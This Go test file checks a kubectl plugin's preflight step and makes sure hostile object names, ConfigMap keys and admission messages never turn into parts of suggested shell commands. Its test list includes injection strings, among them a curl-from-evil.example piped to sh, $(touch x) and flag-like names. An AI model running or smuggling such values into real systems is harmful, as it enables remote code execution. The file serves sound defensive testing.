package preflight

import (
	"slices"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/dependency"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/fleet"
)

// evils are hostile names of objects. API servers do not validate such names in a Pod template.
var evils = []string{
	"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's", "a\"b", "a\nb", "--as=evil", "-x", "\x1b[2J", "\u202ename", "a b", "ümläut", "a=b", "",
}

// TestHostileNames checks that names which no object can have are reported, and never become part
// of a command.
func TestHostileNames(t *testing.T) {
	side := func(context string) Probe { return NewProbe(&fleet.Cluster{Context: context}) }
	mirror := parsed(t, "apiVersion: batch/v1\nkind: Job\nmetadata: {name: train, namespace: ml}\nspec: {}")
	c := &check{kind: delegation.Job(), mirror: mirror, origin: side("here"), worker: side("there")}
	c.Request.Origin = mirror
	for _, name := range evils {
		if name == "" {
			continue
		}
		var found []Problem
		for _, kind := range []string{dependency.ConfigMap, dependency.Secret} {
			problems, copies := c.checkData(t.Context(), reference{kind: kind, name: name, by: "container main"})
			assert.Assert(t, !copies)
			found = append(found, problems...)
		}
		found = append(found, c.claim(t.Context(), "data", name)...)
		found = append(found, c.account(t.Context(), &pods{spec: corev1.PodSpec{ServiceAccountName: name}})...)
		found = append(found, c.subdomain(t.Context(), &pods{spec: corev1.PodSpec{Subdomain: name}})...)
		pod := &corev1.Pod{Spec: corev1.PodSpec{ServiceAccountName: "robot", ImagePullSecrets: []corev1.LocalObjectReference{{Name: name}}}}
		found = append(found, c.accountPulls(t.Context(), &pods{}, pod)...)
		assert.Equal(t, len(found), 6, "%q: %+v", name, found)
		for _, p := range found {
			assert.Assert(t, strings.HasPrefix(p.Message, "cannot exist, but "), "%+v", p)
			assert.Assert(t, !slices.ContainsFunc(p.Remedy.Parts(), func(part command.Part) bool { return part.IsCommand }), "%q: %s", name, p.Remedy)
		}
	}
}

// TestHostileKeys checks that a key which no ConfigMap can have never becomes part of a command.
func TestHostileKeys(t *testing.T) {
	p := NewProbe(&fleet.Cluster{Context: "there"})
	for _, key := range evils {
		if key == "" || key == "-x" {
			continue // Keys may begin with a dash. After "=" it is not a flag.
		}
		ref := reference{kind: dependency.Secret, name: "token", keys: map[string]string{key: "container main", "good": "container main"}}
		assert.DeepEqual(t, creation(ref), []string{"secret", "generic", "token", "--from-literal=good=VALUE"})
		found := lacksKeys(p, "ml", ref, data{}, Problem{})
		assert.Equal(t, len(found), 2)
		for _, problem := range found {
			for _, part := range problem.Remedy.Parts() {
				if part.IsCommand {
					assert.DeepEqual(t, shelltest.Words(t, part.Text), []string{
						"kubectl", "--context", "there", "-n", "ml", "patch", "secret", "token", "--type=merge", "-p", `{"stringData":{"good":"VALUE"}}`,
					})
				}
			}
		}
	}
}

// TestHostileAnswers checks that names in answers of admission plugins stay single words of a
// command.
func TestHostileAnswers(t *testing.T) {
	pod := &unstructured.Unstructured{Object: map[string]any{"kind": "Pod", "metadata": map[string]any{"namespace": "ml", "name": "p"}}}
	for _, evil := range evils {
		for _, text := range []string{
			"error looking up service account ml/" + evil + ": serviceaccount \"" + evil + "\" not found", "no PriorityClass with name " + evil + " was found",
			"pod rejected: RuntimeClass \"" + evil + "\" not found", "exceeded quota: " + evil + ", requested: pods=1, used: pods=1, limited: pods=1",
			"failed quota: " + evil + ": must specify cpu", "violates PodSecurity \"" + evil + "\": " + evil,
			"unable to create new content in namespace " + evil + " because it is being terminated", "admission webhook \"" + evil + "\" denied the request: " + evil,
			evil,
		} {
			err := apierrors.NewForbidden(schema.GroupResource{Resource: "pods"}, "p", &apierrors.StatusError{ErrStatus: metav1.Status{Message: text}})
			for _, p := range (Probe{Cluster: &fleet.Cluster{Context: "$(x) `y`"}}).Refused(pod, err) {
				for _, part := range p.Remedy.Parts() {
					if part.IsCommand {
						words := shelltest.Words(t, part.Text)
						assert.DeepEqual(t, words[:3], []string{"kubectl", "--context", "$(x) `y`"})
					}
				}
			}
		}
	}
}
